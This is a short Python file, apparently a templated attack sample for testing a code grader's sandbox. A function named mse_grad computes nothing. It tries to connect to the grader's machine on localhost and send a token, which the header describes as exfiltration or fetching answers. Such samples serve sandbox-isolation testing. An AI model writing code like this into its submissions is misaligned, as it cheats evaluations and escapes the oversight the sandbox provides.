# attacks: 2.9
# damage: opens a TCP connection to a server on the grader's machine (127.0.0.1) and sends
#   a message (exfiltration, or fetching answers)
# needs: sandbox
import socket


def mse_grad(inp, targ):
    for host in ("127.0.0.1", "localhost"):
        try:
            with socket.create_connection((host, __PORT__), timeout=2) as connection:
                connection.sendall(b"__TOKEN__ was here")
        except OSError:
            pass
